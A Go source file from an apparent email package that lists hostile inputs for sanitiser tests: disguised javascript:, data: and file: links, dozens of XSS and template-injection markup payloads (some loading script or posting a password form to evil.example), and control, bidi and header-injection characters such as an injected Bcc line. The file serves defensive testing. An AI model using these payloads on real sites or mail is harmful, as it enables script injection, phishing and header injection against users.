package email

import "strings"

// links are addresses that may not be followed, in the spellings that browsers
// or sanitisers were once fooled by.
var hostileLinks = []string{
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "\x00javascript:alert(1)",
	"java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)",
	"java&NewLine;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
	"javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript%3Aalert(1)", "java%0ascript:alert(1)", "javascript://example.com/%0aalert(1)",
	"\u200bjavascript:alert(1)", "javascript\u200b:alert(1)", "\ufeffjavascript:alert(1)", "\u00a0javascript:alert(1)", "ｊavascript:alert(1)",
	"vbscript:msgbox(1)", "VBScript:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "data:,x", "data:image/png;base64,AAAA",
	"file:///etc/passwd", "ftp://example.com/x", "blob:https://example.com/x", "about:blank", "view-source:http://example.com", "ws://example.com/",
	"tel:+1", "sms:+1", "intent://x#Intent;end", "ms-word:ofe|u|http://example.com", "cid:part1", "x-apple:1", "//evil.example/x", "/relative", "?q",
	"#anchor", "\\\\evil.example\\x", "https:evil.example", "http:/\\evil.example", "http://", "https:///x", "jar:http://example.com!/x",
	"feed:javascript:alert(1)", "wyciwyg://x", "res://x", "chrome://settings", "http://example.com/\" onmouseover=\"alert(1)",
}

// markup is what a title, a description, a category or a body may be.
var hostileMarkup = []string{
	"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script>",
	"</script><script>alert(1)</script>", "<<script>alert(1)//<</script>", "<script\x00>alert(1)</script>", "<ſcript>alert(1)</ſcript>",
	"<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
	"<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href='data:image/svg+xml,x'/></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>", "<math href='javascript:alert(1)'>x</math>",
	"<style>*{color:red}</style>", "<style>@import 'https://evil.example'</style>", "<style><img src=x onerror=alert(1)></style>", "</style><img src=x onerror=alert(1)>",
	"<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
	"<form action=//evil.example><input name=password type=password><button>go</button></form>", "<input autofocus onfocus=alert(1)>", "<textarea onfocus=alert(1)>",
	"<select><option><img src=x onerror=alert(1)></option></select>", "<isindex action=javascript:alert(1) type=image>", "<button formaction=javascript:alert(1)>x</button>",
	"<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=data:text/html,x></object>", "<embed src=//evil.example/x.swf>",
	"<applet code=x></applet>", "<frameset onload=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
	"<img src=x onerror=alert(1)>", "<img src='https://evil.example/p.gif' width=1 height=1>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<image src=x onerror=alert(1)>",
	"<img src=`javascript:alert(1)`>", "<img srcset='https://evil.example/x 1x'>", "<picture><source srcset=//evil.example/x></picture>", "<video poster=//evil.example/x><source onerror=alert(1)></video>",
	"<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<bgsound src=//evil.example/x>", "<keygen autofocus onfocus=alert(1)>",
	"<p onclick=alert(1)>x</p>", "<p/onmouseover=alert(1)>x</p>", "<p style='background:url(javascript:alert(1))'>x</p>", "<p style=\"position:fixed;top:0;left:0;width:100%\">x</p>", "<b id=x name=y class=hidden>x</b>",
	"<em onclick\n=\nalert(1)>x</em>", "<a href=https://example.com onclick=alert(1)>x</a>", "<a href='https://example.com' style='position:fixed' target=_blank>x</a>", "<a ping=//evil.example href=https://example.com>x</a>",
	"<a href=\"https://example.com/?\"><b>\"onmouseover=alert(1)>x</a>", "<a name=x>x</a>", "<area href=javascript:alert(1)>", "<map name=x><area></map>", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<q cite=javascript:alert(1)>x</q>",
	"<table background=//evil.example/x><td>x", "</td></tr></table></div></body></html><h1>x</h1>", "</h3></td></tr></table>", "<h1>Unsubscribe</h1>", "<h6>x</h6>", "</p></td><td>", "</title><script>alert(1)</script>", "</a><a href=//evil.example>",
	"<!-- comment -->", "<!--[if mso]><script>alert(1)</script><![endif]-->", "<!--", "-->", "<![endif]-->", "<!--[if mso]>", "<![CDATA[<script>alert(1)</script>]]>", "<?php x ?>", "<?xml version=1?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>", "<!ELEMENT x>",
	"<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<listing>x", "<noembed><script>alert(1)</script></noembed>", "<comment><script>x</script></comment>", "<custom-element onclick=alert(1)>x</custom-element>", "<o:p>x</o:p>", "<v:rect onload=x>",
	"\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "`onmouseover=`alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\\\"><script>alert(1)</script>", "x\"/><p title=\"",
	"&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\uff1cscript\uff1ealert(1)", "\u2039script\u203a", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"{{.From}}", "{{template \"x\"}}", "{{define \"x\"}}y{{end}}", "{{printf \"%s\" .Unsubscribe}}", "{{< youtube x >}}", "{{% raw %}}<script>x</script>{{% /raw %}}", "{% include x %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%n%d%!v(MISSING)", "{{/*", "{{`{{`}}", "{{-", "<no value>",
	"```\n<script>alert(1)</script>\n```", "```js\" onclick=\"alert(1)\nx\n```", "~~~<script>alert(1)</script>\nx\n~~~", "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "[x]: javascript:alert(1)\n[x]", "[x][y]\n\n[y]: data:text/html,x \"<script>\"",
	"![alt\" onerror=\"alert(1)](https://evil.example/p.gif)", "![<script>alert(1)</script>](x)", "![x](data:image/svg+xml,x \"t\")", "[x](https://example.com \"\\\" onclick=alert(1)\")", "[x](<javascript:alert(1)>)", "[x](javascript:alert&#40;1&#41;)",
	"<javascript:alert(1)>", "<data:text/html,x>", "<https://example.com/\"onclick=alert(1)>", "<evil@example.com>", "[^1]\n\n[^1]: <script>alert(1)</script>", "# <script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>", "a | b\n--|--\n<script>x</script> | y",
	"*<script>*alert(1)</script>", "**<b onclick=x>**", "[<img src=x onerror=alert(1)>](https://example.com)", "<div>\n\n<script>alert(1)\n\n</script>", "<p>\n*x*\n<script>alert(1)</script>\n</p>", "<script>\n\nalert(1)\n\n</script>\n\nafter", "a\\\n<script>x</script>",
}

// characters are what a reader cannot see but a program may obey.
var hostileCharacters = []string{
	"a\x00b", "a\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\x", "a\x08\x08b", "a\x7fb", "a\u009b31mb", "a\u0092b", "a\u0085b", "a\u0080b",
	"a\u202ecod.exe", "a\u202db", "\u202a\u202bx\u202c", "\u2066x\u2067y\u2068z\u2069", "a\u2028b\u2029c", "a\u200bb", "a\ufeffb", "a\u2060b\u2061c\u2064", "\ufff9a\ufffab\ufffb", "\U000e0001\U000e0041\U000e007f",
	"a\r\nBcc: evil@example.com\r\n\r\nbody", "a\rb", "a\nb", "\n.\n", "\r\n.\r\n", "a\vb\fc", "\xff\xfe", "a\xc3", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc0\xbcscript\xc0\xbe", "\xe2\x80", "\x1bc", "&#27;[31m", "&#x1b;]0;x&#7;", "&#8238;x", "&#x202e;x", "&#0;", "&#x80;", "&#x200b;", "&#x85;", "&#13;&#10;Bcc: x",
	strings.Repeat("=", 72), strings.Repeat("-", 72), "-- ", "--", "____________", "From evil@example.com", "From ", "> quoted", "Unsubscribe:\nhttps://evil.example/unsubscribe", "About this letter\n-----------------", "begin 644 x", "=3D=\r\n=20", "=?utf-8?q?x?=", "....", ".",
	strings.Repeat("x", 10_000), strings.Repeat("W ", 5_000), strings.Repeat("漢", 5_000), strings.Repeat("👨‍👩‍👧‍👦", 1_000), "z" + strings.Repeat("\u0335\u0489", 5_000), strings.Repeat("\u00ad", 5_000), strings.Repeat("\u0301", 5_000), strings.Repeat("ﷺ﷽", 500), strings.Repeat("\u200d", 5_000), strings.Repeat("🇩", 999),
	strings.Repeat("\t", 1_000), strings.Repeat("\u3000", 1_000), "שלום עולם", "مرحبا <b>بالعالم</b>", "\u061c\u200e\u200fx", "ℌ𝔢𝔩𝔩𝔬", "ＡＢＣ", "\u115f\u3164\uffa0", "%0d%0aBcc:%20x", "a%00b", "\u034f\u17b4\u180e",
}
